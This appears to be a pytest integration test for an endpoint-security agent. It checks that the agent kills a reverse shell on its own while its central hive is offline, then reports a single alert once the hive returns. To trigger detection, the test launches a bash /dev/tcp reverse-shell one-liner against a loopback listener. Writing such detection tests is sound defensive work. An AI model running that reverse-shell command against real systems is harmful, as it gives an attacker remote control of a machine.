"""The edge end to end: rules and playbooks the hive pushed run on the agent,
which kills a reverse shell by itself while its hive is down, and reports it
when the hive is back: one alert, taken at the edge, not acted on again."""

import json
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

from hive import Store
from hive.playbook import DEFAULT_PLAYBOOKS
from hive.sigma import BUILTIN_RULES
from tests.kmod.conftest import kernel

from .hosts import enroll, wait_until
from .nodes import free_port

pytestmark = kernel


def cli(data: Path, *args: str) -> str:
    r = subprocess.run([sys.executable, "-m", "node.cli", *args, "--data", str(data)],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    return r.stdout


def store(data: Path) -> Store:
    return Store(data / "hive.db", readonly=True)


def test_a_reverse_shell_is_killed_by_the_agent_alone_and_reported_once_when_the_hive_is_back(
        tmp_path, start_node):
    hive_dir, agent_dir = tmp_path / "hive", tmp_path / "agent"
    port = free_port()
    listen = ["--listen", f"tcp://127.0.0.1:{port}"]
    hive = start_node("hive", hive_dir, *listen)
    hive.wait_ready(timeout=120)
    enroll(hive_dir, agent_dir, "edge-1")
    edge = tmp_path / "edge"
    for kind, source in (("rules", BUILTIN_RULES / "linux" / "reverse_shell.yml"),
                         ("playbooks", DEFAULT_PLAYBOOKS / "reverse_shell.yml")):
        (edge / kind).mkdir(parents=True)
        shutil.copy(source, edge / kind)
    assert "pushed edge v1 for every agent" in cli(hive_dir, "policy", "push", "edge", "--rules", str(edge / "rules"),
                                                   "--playbooks", str(edge / "playbooks"))
    agent = start_node("agent", agent_dir, "--hive", f"tcp://127.0.0.1:{port}")
    agent.wait_ready(timeout=120)

    def running() -> int:
        s = store(hive_dir)
        try:
            return next((a.bundle_version for a in s.agents() if a.id == "edge-1"), 0)
        finally:
            s.close()

    wait_until(lambda: running() == 1, timeout=30, what="the agent running bundle v1")
    # the fast path: the sensor wakes the reader at once for the kinds the edge rules read
    wait_until(lambda: "delivered at once for the edge's rules: exec" in agent.log(), timeout=10,
               what="the sensor told to deliver execs at once")

    # The hive goes away; a reverse shell to 127.0.0.2 (loopback, which the
    # edge may not block, is the hive's) is killed by the agent alone.
    assert hive.stop() == 0
    srv = socket.socket()
    srv.bind(("127.0.0.2", 0))
    srv.listen(1)
    started = time.monotonic()
    shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.2/{srv.getsockname()[1]} 0>&1"],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        code = shell.wait(timeout=10)
        elapsed = time.monotonic() - started
    finally:
        shell.kill()
        srv.close()
    assert code == -signal.SIGKILL, code
    print(f"\nedge: reverse shell exec -> dead {elapsed * 1000:.0f} ms with the hive down")

    # Back: the hive files the agent's report as one alert, taken at the edge,
    # and its own reverse-shell playbook sends nothing for it.
    hive = start_node("hive", hive_dir, *listen)
    hive.wait_ready(timeout=120)

    def edge_alerts():
        s = store(hive_dir)
        try:
            return [a for a in s.alerts(limit=1000) if a.edge]
        finally:
            s.close()

    wait_until(lambda: edge_alerts(), timeout=30, what="the edge's alert at the hive")
    time.sleep(2)  # anything the hive would do of its own has happened by now
    [alert] = edge_alerts()
    assert alert.agent == "edge-1" and alert.title.startswith("Reverse Shell")
    pids = {e.pid for e in alert.events}
    assert shell.pid in pids, (shell.pid, pids)
    s = store(hive_dir)
    try:
        same = [a for a in s.alerts(limit=1000) if a.rule_id == alert.rule_id and a.id != alert.id
                and shell.pid in {e.pid for e in a.events}]
        edge_events = [e for e in s.events(agent="edge-1", kind="edge", limit=100)]
    finally:
        s.close()
    assert same == []  # one alert for the shell, not one more from the hive's own rules
    answered = [a for e in edge_events if e.answered for a in e.actions]
    assert {(a.action, a.ok) for a in answered} >= {("kill_process", True)}
    actions = [json.loads(line) for line in cli(hive_dir, "actions", "--json").splitlines()]
    assert [a for a in actions if a["params"].get("pid") == shell.pid] == []  # the hive took no action of its own on it
